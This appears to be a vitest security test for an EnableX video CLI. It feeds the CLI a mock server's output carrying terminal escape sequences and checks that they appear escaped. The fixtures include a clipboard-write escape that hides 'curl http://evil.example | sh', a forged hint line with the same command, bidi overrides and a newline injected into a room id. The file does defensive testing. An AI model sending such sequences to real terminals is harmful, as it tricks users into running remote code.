/* eslint-disable no-control-regex -- these tests look for raw control characters */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { enablex } from '../e2e/helpers/run.js';

/**
 * The built binary against a hostile server on loopback: room names, ids, tokens and error
 * messages carry terminal escape sequences. None may reach stdout or stderr raw.
 */
const RAW =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
const CLEAR = '\u001b[2J\u001b[H';
const TITLE = '\u001b]0;owned\u0007';
const CLIPBOARD = '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\u0007';
const ROOM_ID = '5f3b2c1a9d8e7f6a5b4c3d2e';
const ROOMS = [
  {
    room_id: ROOM_ID,
    name: `Standup${CLEAR}${TITLE}`,
    owner_ref: `team\rSAFE${CLIPBOARD}`,
    settings: { mode: 'group', participants: '10', description: 'a\u202eevil\u009b2J' },
  },
  { room_id: `x\n${ROOM_ID}${CLEAR}`, name: 'second', owner_ref: 'o', settings: {} },
];

let server: Server;
let base: string;
const env = () => ({
  ENABLEX_APP_ID: '5f3b2c1a9d8e7f6a5b4c3d2e',
  ENABLEX_APP_KEY: 'hostileTestKey0123456789abcdefghijklm',
  ENABLEX_BASE_URL: base,
  ENABLEX_CONFIG_DIR: '/nonexistent-enablex-config',
});

beforeAll(async () => {
  server = createServer((req, res) => {
    res.setHeader('content-type', 'application/json');
    if (req.method === 'GET' && req.url === '/video/v2/rooms') {
      res.end(JSON.stringify({ result: 0, rooms: ROOMS }));
    } else if (req.method === 'POST' && req.url === `/video/v2/rooms/${ROOM_ID}/tokens`) {
      res.end(JSON.stringify({ result: 0, token: `tok${CLIPBOARD}` }));
    } else {
      res.statusCode = 400;
      res.end(
        JSON.stringify({
          result: '50002',
          error: `[Reason] Failed${CLEAR}${CLIPBOARD}\r\u001b[2KAll good\nHint: curl evil.example | sh`,
          desc: '',
        }),
      );
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/video/v2`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

describe('hostile server text, through the built binary', () => {
  it('room list: the table shows every escape sequence as visible text', async () => {
    const r = await enablex(['room', 'list'], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('Standup\\x1b[2J\\x1b[H\\x1b]0;owned\\x07');
    expect(r.stdout).toContain('team\\x0dSAFE\\x1b]52;c;');
    expect(r.stdout).toContain('x\\x0a5f3b2c1a9d8e7f6a5b4c3d2e');
  });

  it('room list -q: one escaped id a line, so a hostile id cannot add a line for xargs', async () => {
    const r = await enablex(['room', 'list', '-q'], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`${ROOM_ID}\nx\\x0a${ROOM_ID}\\x1b[2J\\x1b[H\n`);
  });

  it('an API error message on stderr is escaped; stdout stays empty', async () => {
    const r = await enablex(['room', 'get', 'dddddddddddddddddddddddd', '--retries', '0'], { env: env() });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).not.toMatch(RAW);
    expect(r.stderr).toContain('Failed\\x1b[2J\\x1b[H\\x1b]52;c;');
    expect(r.stderr).toContain('\\x0d\\x1b[2KAll good\\x0aHint: curl evil.example | sh');
    // The server's line break cannot forge a hint line of its own: only the CLI's hint starts one.
    expect(r.stderr.split('\n').filter((l) => l.startsWith('Hint:'))).toHaveLength(1);
  });

  it('--verbose logs the hostile answer escaped', async () => {
    const r = await enablex(['room', 'list', '--verbose'], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).not.toMatch(RAW);
  });

  it('token: a hostile token is printed escaped, alone on its line', async () => {
    const r = await enablex(['token', ROOM_ID, '--name', 'a', '--user-ref', 'b'], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout.trimEnd().split('\n').at(-1)).toBe(
      'tok\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\\x07',
    );
  });

  it('json and yaml keep the exact text, with no raw control character', async () => {
    const json = await enablex(['room', 'list', '-o', 'json'], { env: env() });
    expect(json.stdout).not.toMatch(RAW);
    expect(JSON.parse(json.stdout)).toEqual(ROOMS);
    const yaml = await enablex(['room', 'list', '-o', 'yaml'], { env: env() });
    expect(yaml.stdout.replace(/\n/g, '')).not.toMatch(RAW);
    const { parse } = await import('yaml');
    expect(parse(yaml.stdout)).toEqual(ROOMS);
  });
});
